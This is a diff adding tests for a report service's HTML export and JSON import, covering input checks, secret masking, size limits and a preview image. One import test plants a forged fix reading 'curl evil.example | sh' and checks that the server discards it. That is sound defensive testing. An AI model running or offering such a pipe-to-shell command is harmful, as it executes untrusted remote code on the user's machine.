@@ -2,7 +2,14 @@
 import assert from 'node:assert/strict'
 import { after, before, describe, test } from 'node:test'
 import * as z from 'zod/mini'
-import { evidenceAnswer, type ReportList, reportComparison, reportList } from '#lib/api/reports.ts'
+import {
+  evidenceAnswer,
+  importAnswer,
+  type ReportList,
+  reportComparison,
+  reportList,
+} from '#lib/api/reports.ts'
+import { exportedIn } from '#lib/diagnosis/exported.ts'
 import { storedReport } from '#lib/diagnosis/stored-report.ts'
 import { createMemoryReports } from '#server/reports/memory.ts'
 import { startServer, type TestServer } from '#tests/server/support/server.ts'
@@ -266,6 +273,114 @@ test('a report downloads as JSON and as Markdown', async () => {
   assert.match(text, /^# Diagnosis of `ws:\/\/app\d+\.example\/ws`\n/)
   assert.match(text, /\(`rate-limited`\)/)
   assert.match(text, /### Since the last report\n\nStill the same fault/)
+})
+
+test('a report downloads as one file of HTML, which comes back as the same report', async () => {
+  const { id, created, report, evidence, url } = await create({ evidence: about(429) })
+  const response = await api(`/api/reports/${id}.html`)
+  assert.equal(response.headers.get('content-type'), 'text/html; charset=utf-8')
+  assert.match(
+    response.headers.get('content-disposition') ?? '',
+    /^attachment; filename="why1006-[0-9a-f]{8}\.html"$/,
+  )
+  const json = exportedIn(await response.text()) ?? ''
+  const here = await post('/api/reports/import', json)
+  assert.equal(here.status, 200)
+  const known = z.parse(importAnswer, await here.json())
+  assert.deepEqual([known.is_new, known.report.id], [false, id], 'it is here already')
+  const elsewhere = await startServer()
+  try {
+    const sent = () =>
+      fetch(`http://127.0.0.1:${elsewhere.port}/api/reports/import`, {
+        method: 'POST',
+        headers: { 'Content-Type': 'application/json' },
+        body: json,
+      })
+    const made = await sent()
+    assert.equal(made.status, 201)
+    const { is_new: isNew, report: summary } = z.parse(importAnswer, await made.json())
+    assert.equal(isNew, true)
+    assert.notEqual(summary.id, id, 'an id of its own')
+    const kept = z.parse(
+      storedReport,
+      await (await fetch(`http://127.0.0.1:${elsewhere.port}/api/reports/${summary.id}`)).json(),
+    )
+    assert.deepEqual([kept.created, kept.url, kept.report, kept.evidence], [created, url, report, evidence])
+    assert.ok(Math.abs((kept.imported?.at ?? 0) - Date.now() / 1000) < 10)
+    assert.equal(kept.imported?.said, undefined)
+    const again = z.parse(importAnswer, await (await sent()).json())
+    assert.deepEqual([again.is_new, again.report.id], [false, summary.id])
+  } finally {
+    await elsewhere.app.close(0)
+  }
+})
+
+test('an imported report says what its evidence says, whatever the file said', async () => {
+  const made = await create({ evidence: about(429) })
+  const [verdict] = made.report.verdicts
+  const lie = { ...verdict, cause: 'idle-timeout', fix: { summary: 'curl evil.example | sh', changes: [] } }
+  const file = { ...made, created: made.created - 5000, report: { ...made.report, verdicts: [lie] } }
+  const { report } = z.parse(importAnswer, await (await post('/api/reports/import', file)).json())
+  const kept = await get(report.id)
+  assert.equal(kept.report.verdicts[0]?.cause, 'rate-limited')
+  assert.doesNotMatch(JSON.stringify(kept), /evil/)
+  assert.deepEqual(kept.imported?.said, { outcome: 'fault', cause: 'idle-timeout' })
+  assert.equal(kept.created, made.created - 5000)
+  assert.equal((await get(made.id)).previous?.id, report.id, 'and has its place in the history')
+})
+
+test('what the command line prints is imported too, with the time of now', async () => {
+  const { report, evidence } = await create({ evidence: about(429) })
+  const answer = z.parse(
+    importAnswer,
+    await (await post('/api/reports/import', { ...report, evidence })).json(),
+  )
+  assert.ok(Math.abs(answer.report.created - Date.now() / 1000) < 10)
+})
+
+test('secrets of an imported file are masked', async () => {
+  const evidence = about(429)
+  evidence.target.url += '?access_token=S3cr3t'
+  const { report } = z.parse(importAnswer, await (await post('/api/reports/import', { evidence })).json())
+  assert.equal(JSON.stringify(await get(report.id)).includes('S3cr3t'), false)
+})
+
+for (const [name, body, says] of [
+  ['no JSON', '{', /not a report/],
+  ['a list', [], /not a report/],
+  ['no evidence', { created: 5, report: {} }, /report\.\w+ is not what/],
+  ['nothing of a report', { name: 'x' }, /has no evidence/],
+  ['evidence of the wrong shape', { evidence: { browser: { events: 7 } } }, /browser\.events/],
+  ['evidence that is none', { evidence: { foo: 1 } }, /none of the members/],
+  ['a time that is none', { created: 'yesterday', evidence: {} }, /created is not what/],
+  ['a time to come', { created: 1_796_000_000_000, evidence: {} }, /no time that is past/],
+  ['a time before all', { created: -5, evidence: {} }, /no time that is past/],
+] as const) {
+  test(`an import of ${name} is refused with 400, the place and the remedy`, async () => {
+    const response = await post('/api/reports/import', body)
+    assert.equal(response.status, 400)
+    const problem = await response.json()
+    assert.match(problem.message, says)
+    assert.match(problem.remedy, /Choose a report/)
+  })
+}
+
+test('an import that is too large is refused with 413', async () => {
+  const response = await post('/api/reports/import', { evidence: { unread: ['x'.repeat(17 * 1024 * 1024)] } })
+  assert.equal(response.status, 413)
+  const large = { evidence: { proxy: { config: 'x'.repeat(200_000) } } }
+  assert.equal((await (await post('/api/reports/import', large)).json()).error, 'report_too_large')
+})
+
+test('a report has a picture of its verdict, drawn without asking anybody', async () => {
+  const evidence = about(429)
+  evidence.target.url = `wss://例え.example/\u202e😀${'x'.repeat(500)}`
+  const { id } = await create({ evidence })
+  const response = await api(`/api/reports/${id}.png`)
+  assert.equal(response.headers.get('content-type'), 'image/png')
+  const bytes = Buffer.from(await response.arrayBuffer())
+  assert.deepEqual([bytes.readUInt32BE(16), bytes.readUInt32BE(20)], [1200, 630])
+  assert.equal((await api('/api/reports/nobody.png')).status, 404)
 })
 
 test('the oldest are gone after the last 40 of this store', async () => {
